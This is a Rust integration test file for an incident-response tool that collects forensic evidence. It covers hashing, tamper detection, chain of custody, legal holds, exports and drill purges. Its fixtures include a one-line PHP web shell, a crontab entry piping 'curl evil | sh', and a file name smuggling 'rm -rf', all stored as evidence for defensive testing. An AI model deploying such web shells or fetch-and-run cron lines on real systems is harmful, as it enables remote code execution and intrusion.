//! Evidence through the built binary: hashes against coreutils' sha256sum,
//! tampering and deletion caught by `evidence verify`, bundles checked with
//! `sha256sum -c`, legal hold, and the drill purge.

mod common;

use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;

use common::{Env, assert_fails};
use serde_json::Value;

fn sha256sum(path: &Path) -> String {
    let out = Command::new("sha256sum")
        .arg(path)
        .output()
        .expect("sha256sum (coreutils) runs");
    assert!(out.status.success());
    String::from_utf8(out.stdout).unwrap()[..64].to_string()
}

fn evidence_dir(env: &Env) -> std::path::PathBuf {
    env.db().with_file_name("warroom.evidence")
}

/// Adds a file and returns (item json, source path).
fn add_file(env: &Env, id: &str, name: &str, body: &[u8]) -> (Value, std::path::PathBuf) {
    let src = env.dir.path().join(name);
    std::fs::write(&src, body).unwrap();
    let v = env.json(&[
        "evidence",
        "add",
        id,
        "--file",
        src.to_str().unwrap(),
        "--description",
        "from the web host",
    ]);
    (v, src)
}

#[test]
fn stored_hashes_match_sha256sum_and_copies_are_read_only() {
    let env = Env::new();
    let id = env.new_incident("Credential stuffing", "P2");
    let body: Vec<u8> = (0..200_000u32).map(|n| (n * 7 % 251) as u8).collect();
    let (item, src) = add_file(&env, &id, "auth.log", &body);
    let expected = sha256sum(&src);
    assert_eq!(item["sha256"], expected.as_str());
    assert_eq!(item["size"], 200_000);
    assert_eq!(item["kind"], "file");
    assert_eq!(item["collected_by"], "tester");
    assert_eq!(item["source_path"], src.to_str().unwrap());
    assert!(!item["source_host"].as_str().unwrap().is_empty());
    assert!(
        item["collected_at_local"]
            .as_str()
            .unwrap()
            .ends_with("+00:00"),
        "time with its zone: {item}"
    );
    let stored = evidence_dir(&env).join(item["stored_path"].as_str().unwrap());
    assert_eq!(
        stored,
        evidence_dir(&env)
            .join("sha256")
            .join(&expected[..2])
            .join(&expected[2..])
    );
    assert_eq!(
        sha256sum(&stored),
        expected,
        "the stored copy hashes the same"
    );
    let mode = std::fs::metadata(&stored).unwrap().permissions().mode();
    assert_eq!(mode & 0o222, 0, "stored copies are read-only: {mode:o}");

    // Excerpts and notes are hashed as their UTF-8 bytes.
    let ex = env.json(&[
        "evidence",
        "add",
        &id,
        "--excerpt",
        "Failed password for root from 203.0.113.9\n",
        "--source-path",
        "/var/log/auth.log",
    ]);
    let ex_file = env.dir.path().join("excerpt.txt");
    std::fs::write(&ex_file, "Failed password for root from 203.0.113.9\n").unwrap();
    assert_eq!(ex["sha256"], sha256sum(&ex_file).as_str());
    assert_eq!(ex["source_path"], "/var/log/auth.log");
    env.ok(&[
        "evidence",
        "add",
        &id,
        "--note",
        "attacker IP is a VPN exit",
    ]);

    let list = env.json(&["evidence", "list", &id]);
    let items = list["items"].as_array().unwrap();
    assert_eq!(items.len(), 3);
    assert_eq!(items[0]["custody"][0]["action"], "collected");
    assert_eq!(items[0]["custody"][0]["to"], "evidence-store");
    let shown = env.json(&["incident", "show", &id]);
    let kinds: Vec<&str> = shown["timeline"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["kind"].as_str().unwrap())
        .collect();
    assert_eq!(
        kinds.iter().filter(|k| **k == "evidence.collected").count(),
        3
    );
}

#[test]
fn verify_reports_changed_and_deleted_items_and_records_the_checks() {
    let env = Env::new();
    let id = env.new_incident("Web shell", "P1");
    let (a, _) = add_file(&env, &id, "shell.php", b"<?php system($_GET['c']); ?>");
    let (b, _) = add_file(&env, &id, "access.log", b"GET /shell.php?c=id\n");
    let (c, _) = add_file(&env, &id, "crontab", b"* * * * * curl evil | sh\n");
    let out = env.ok(&["evidence", "verify", &id]);
    assert!(out.contains("3 evidence item(s) verified"), "{out}");

    // Tamper as the owner would have to: make writable, change, (root
    // ignores the mode anyway).
    let dir = evidence_dir(&env);
    let pa = dir.join(a["stored_path"].as_str().unwrap());
    std::fs::set_permissions(&pa, std::fs::Permissions::from_mode(0o644)).unwrap();
    std::fs::write(&pa, b"<?php echo 'harmless'; ?>").unwrap();
    std::fs::remove_file(dir.join(b["stored_path"].as_str().unwrap())).unwrap();

    let run = env.run(&["evidence", "verify"]);
    assert_fails(&run, 1, "2 of 3 evidence item(s) failed verification");
    let stdout = String::from_utf8_lossy(&run.stdout);
    assert!(
        stdout.contains(&format!("{id} #{}: MISMATCH", a["id"])),
        "{stdout}"
    );
    assert!(
        stdout.contains(&format!("{id} #{}: MISSING", b["id"])),
        "{stdout}"
    );
    assert!(
        stdout.contains(&format!("{id} #{}: ok", c["id"])),
        "{stdout}"
    );

    let json = env
        .cmd()
        .args(["evidence", "verify", "--json"])
        .output()
        .unwrap();
    assert_eq!(json.status.code(), Some(1));
    let v: Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(v["failed"], 2);
    assert_eq!(v["items"][0]["result"], "mismatch");
    assert_eq!(v["items"][1]["result"], "missing");

    // Every check is a custody event; the timeline itself is intact.
    let list = env.json(&["evidence", "list", &id]);
    let custody_a = list["items"][0]["custody"].as_array().unwrap();
    let results: Vec<&str> = custody_a
        .iter()
        .filter(|e| e["action"] == "verified")
        .map(|e| e["result"].as_str().unwrap())
        .collect();
    assert_eq!(results, ["ok", "mismatch", "mismatch"]);
    env.ok(&["verify"]);

    // A damaged store refuses to export.
    let out = env.dir.path().join("bundle");
    let run = env.run(&["evidence", "export", &id, "--out", out.to_str().unwrap()]);
    assert_fails(&run, 1, "no longer matches its recorded hash");
}

#[test]
fn exported_bundles_verify_with_sha256sum_and_record_the_legal_hold() {
    let env = Env::new();
    let id = env.new_incident("Data exfiltration", "P1");
    add_file(
        &env,
        &id,
        "dump.sql",
        b"INSERT INTO users VALUES (1, 'a@example.com');\n",
    );
    add_file(&env, &id, "../weird name;rm -rf.txt", b"odd name\n");
    env.ok(&["evidence", "add", &id, "--excerpt", "line one\nline two\n"]);
    env.ok(&[
        "evidence",
        "transfer",
        &id,
        "1",
        "--to",
        "forensics-lab",
        "--purpose",
        "disk imaging",
    ]);

    // Copying an item out checks it and is an access in the custody log.
    let copy = env.dir.path().join("copy.sql");
    assert_fails(
        &env.run(&[
            "evidence",
            "copy",
            &id,
            "1",
            "--out",
            copy.to_str().unwrap(),
            "--purpose",
            " ",
        ]),
        2,
        "needs a purpose",
    );
    env.ok(&[
        "evidence",
        "copy",
        &id,
        "1",
        "--out",
        copy.to_str().unwrap(),
        "--purpose",
        "query analysis",
    ]);
    assert_eq!(
        std::fs::read(&copy).unwrap(),
        b"INSERT INTO users VALUES (1, 'a@example.com');\n"
    );
    assert_fails(
        &env.run(&[
            "evidence",
            "copy",
            &id,
            "1",
            "--out",
            copy.to_str().unwrap(),
            "--purpose",
            "x",
        ]),
        1,
        "copy.sql",
    );

    let dir = env.dir.path().join("bundle");
    env.ok(&["evidence", "export", &id, "--out", dir.to_str().unwrap()]);
    let check = Command::new("sha256sum")
        .args(["-c", "SHA256SUMS"])
        .current_dir(&dir)
        .output()
        .unwrap();
    assert!(
        check.status.success(),
        "{}",
        String::from_utf8_lossy(&check.stdout)
    );
    let sums = std::fs::read_to_string(dir.join("SHA256SUMS")).unwrap();
    assert_eq!(
        sums.lines().count(),
        5,
        "3 items, custody.log, manifest.json: {sums}"
    );
    let manifest: Value =
        serde_json::from_str(&std::fs::read_to_string(dir.join("manifest.json")).unwrap()).unwrap();
    assert_eq!(manifest["incident"], id.as_str());
    assert!(manifest["legal_hold"].is_null());
    assert_eq!(manifest["items"].as_array().unwrap().len(), 3);
    let custody = std::fs::read_to_string(dir.join("custody.log")).unwrap();
    assert!(
        custody.contains("transferred\tevidence-store\tforensics-lab\tdisk imaging"),
        "{custody}"
    );
    assert!(
        custody.contains("accessed\tevidence-store\ttester: "),
        "{custody}"
    );

    // A legal hold needs a reason, and is recorded in the export.
    assert_fails(
        &env.run(&["incident", "hold", &id, "--reason", " "]),
        2,
        "needs a reason",
    );
    env.ok(&[
        "incident",
        "hold",
        &id,
        "--reason",
        "litigation: case 2026-17",
    ]);
    assert_fails(
        &env.run(&["incident", "hold", &id, "--reason", "again"]),
        2,
        "already under legal hold",
    );
    let tar = env.dir.path().join("INC-bundle.tar");
    env.ok(&["evidence", "export", &id, "--out", tar.to_str().unwrap()]);
    let x = env.dir.path().join("x");
    std::fs::create_dir(&x).unwrap();
    let untar = Command::new("tar")
        .arg("xf")
        .arg(&tar)
        .current_dir(&x)
        .status()
        .unwrap();
    assert!(untar.success());
    let top = x.join("INC-bundle");
    let check = Command::new("sha256sum")
        .args(["-c", "SHA256SUMS"])
        .current_dir(&top)
        .output()
        .unwrap();
    assert!(
        check.status.success(),
        "{}",
        String::from_utf8_lossy(&check.stdout)
    );
    let manifest: Value =
        serde_json::from_str(&std::fs::read_to_string(top.join("manifest.json")).unwrap()).unwrap();
    assert_eq!(manifest["legal_hold"]["reason"], "litigation: case 2026-17");
    assert!(top.join("LEGAL_HOLD.txt").exists());
    assert!(
        std::fs::read_to_string(top.join("SHA256SUMS"))
            .unwrap()
            .contains("LEGAL_HOLD.txt")
    );

    // Exports are custody events too; an existing target is refused.
    let list = env.json(&["evidence", "list", &id]);
    assert!(list["legal_hold"]["reason"].is_string());
    let exported = list["items"][0]["custody"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["action"] == "exported")
        .count();
    assert_eq!(exported, 2);
    assert_fails(
        &env.run(&["evidence", "export", &id, "--out", tar.to_str().unwrap()]),
        2,
        "already exists",
    );
    env.ok(&[
        "incident",
        "hold",
        &id,
        "--release",
        "--reason",
        "case settled",
    ]);
    assert_fails(
        &env.run(&["incident", "hold", &id, "--release", "--reason", "x"]),
        2,
        "not under legal hold",
    );
}

#[test]
fn bad_input_is_refused_clearly() {
    let env = Env::new();
    let id = env.new_incident("x", "P3");
    let run = env.run(&["evidence", "add", &id]);
    assert_eq!(run.status.code(), Some(2));
    assert_fails(
        &env.run(&["evidence", "add", &id, "--note", "  "]),
        2,
        "empty",
    );
    assert_fails(
        &env.run(&["evidence", "add", &id, "--file", "/nonexistent/file"]),
        1,
        "/nonexistent/file",
    );
    assert_fails(
        &env.run(&["evidence", "add", "INC-2026-999", "--note", "n"]),
        1,
        "no incident",
    );
    assert_fails(
        &env.run(&[
            "evidence",
            "transfer",
            &id,
            "7",
            "--to",
            "a",
            "--purpose",
            "b",
        ]),
        2,
        "no evidence item #7",
    );
}

#[test]
fn drill_purge_removes_drills_as_a_set_and_keeps_the_live_record() {
    let env = Env::new();
    let live = env.new_incident("Real outage", "P2");
    env.ok(&["evidence", "add", &live, "--note", "real evidence"]);
    env.ok(&["incident", "note", &live, "still real"]);
    let drill = env
        .ok(&[
            "incident",
            "new",
            "--title",
            "Tabletop",
            "--severity",
            "P1",
            "--drill",
        ])
        .trim()
        .to_string();
    let (d, _) = add_file(&env, &drill, "drill.log", b"exercise data\n");
    env.ok(&["incident", "note", &drill, "exercise note"]);
    env.ok(&["verify"]);

    env.ok(&["incident", "hold", &drill, "--reason", "auditor review"]);
    let preview = env.ok(&["drill", "purge"]);
    assert!(
        preview.contains("REFUSED while under legal hold"),
        "{preview}"
    );
    assert_fails(&env.run(&["drill", "purge", "--yes"]), 2, "legal hold");
    env.ok(&[
        "incident",
        "hold",
        &drill,
        "--release",
        "--reason",
        "review done",
    ]);

    let preview = env.json(&["drill", "purge"]);
    assert_eq!(preview["purged"], false);
    assert_eq!(preview["would_purge"]["incidents"][0], drill.as_str());
    assert!(
        env.json(&["incident", "show", &drill])["id"].is_string(),
        "nothing deleted yet"
    );

    let done = env.json(&["drill", "purge", "--yes"]);
    assert_eq!(done["summary"]["incidents"][0], drill.as_str());
    assert_eq!(done["summary"]["evidence"], 1);
    assert_fails(&env.run(&["incident", "show", &drill]), 1, "no incident");
    let stored = evidence_dir(&env).join(d["stored_path"].as_str().unwrap());
    assert!(!stored.exists(), "the drill's stored file is gone");

    // The live incident and its chain are intact, and the purge is on it.
    let v = env.json(&["verify"]);
    assert!(v["failure"].is_null(), "{v}");
    let chains: Vec<&str> = v["heads"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| h["chain"].as_str().unwrap())
        .collect();
    assert_eq!(chains, ["live"]);
    assert_eq!(
        env.json(&["evidence", "list", &live])["items"]
            .as_array()
            .unwrap()
            .len(),
        1
    );
    env.ok(&["evidence", "verify"]);
    let shown = env.json(&["incident", "show", &live]);
    // Created, collected, note, the listing above (an access) and the
    // verification just run.
    assert_eq!(shown["timeline"].as_array().unwrap().len(), 5);
    // New drills start a fresh drill chain that verifies.
    env.ok(&[
        "incident",
        "new",
        "--title",
        "Next drill",
        "--severity",
        "P4",
        "--drill",
    ]);
    env.ok(&["verify"]);
}

/// Runs warroom and waits at most `secs` for it: a command that hangs
/// (e.g. reading a FIFO nobody writes to) fails the test instead of
/// hanging the suite.
fn run_with_deadline(env: &Env, args: &[&str], secs: u64) -> std::process::Output {
    use std::time::{Duration, Instant};
    let mut child = env
        .cmd()
        .args(args)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("run warroom");
    let start = Instant::now();
    loop {
        if child.try_wait().expect("try_wait").is_some() {
            return child.wait_with_output().expect("output");
        }
        if start.elapsed() > Duration::from_secs(secs) {
            let _ = child.kill();
            let _ = child.wait();
            panic!("warroom {args:?} still running after {secs}s: it hung");
        }
        std::thread::sleep(Duration::from_millis(20));
    }
}

#[test]
fn a_fifo_or_device_is_refused_at_once_not_read() {
    let env = Env::new();
    let id = env.new_incident("Collect a pipe", "P3");
    let fifo = env.dir.path().join("pipe");
    assert!(
        Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .expect("mkfifo")
            .success()
    );
    let f = fifo.to_str().unwrap();
    // Nobody ever writes to the FIFO: a read would block forever.
    let out = run_with_deadline(&env, &["evidence", "add", &id, "--file", f], 60);
    assert_fails(&out, 2, "is a FIFO (named pipe); only regular files");
    let out = run_with_deadline(&env, &["evidence", "add", &id, "--excerpt-file", f], 60);
    assert_fails(&out, 2, "is a FIFO (named pipe)");
    let out = run_with_deadline(
        &env,
        &["evidence", "add", &id, "--file", "/dev/urandom"],
        60,
    );
    assert_fails(&out, 2, "/dev/urandom is a character device");
    // Nothing was collected, and the store holds no partial copy.
    let list = env.json(&["evidence", "list", &id]);
    assert_eq!(list["items"].as_array().unwrap().len(), 0);
    let tmp = evidence_dir(&env).join("tmp");
    if tmp.exists() {
        assert_eq!(std::fs::read_dir(&tmp).unwrap().count(), 0);
    }
}

#[test]
fn listing_and_reporting_evidence_are_recorded_accesses() {
    let env = Env::new();
    let id = env.new_incident("Who looked", "P2");
    env.ok(&["evidence", "add", &id, "--note", "first"]);
    env.ok(&["evidence", "add", &id, "--excerpt", "sshd: Failed password"]);
    let accesses = |v: &Value, item: usize| -> Vec<String> {
        v["items"][item]["custody"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|c| c["action"] == "accessed")
            .map(|c| c["purpose"].as_str().unwrap().to_string())
            .collect()
    };
    // The listing records itself, once per item, before it reads.
    let v = env.json(&["evidence", "list", &id]);
    assert_eq!(accesses(&v, 0), ["listed (warroom evidence list)"]);
    assert_eq!(accesses(&v, 1), ["listed (warroom evidence list)"]);
    let text = env.ok(&["evidence", "list", &id]);
    assert_eq!(text.matches("accessed").count(), 4, "{text}");

    // A report to standard output and one to a file are accesses too.
    env.ok(&["report", &id, "--format", "json"]);
    let out = env.dir.path().join("r.md");
    env.ok(&["report", &id, "--out", out.to_str().unwrap()]);
    let v = env.json(&["evidence", "list", &id]);
    let purposes = accesses(&v, 1);
    assert!(
        purposes.contains(&"included in a report (json) written to standard output".to_string()),
        "{purposes:?}"
    );
    assert!(
        purposes.contains(&format!(
            "included in a report (md) written to {}",
            out.display()
        )),
        "{purposes:?}"
    );
    // Custody events are timeline events: the chain still verifies.
    env.ok(&["verify"]);
}
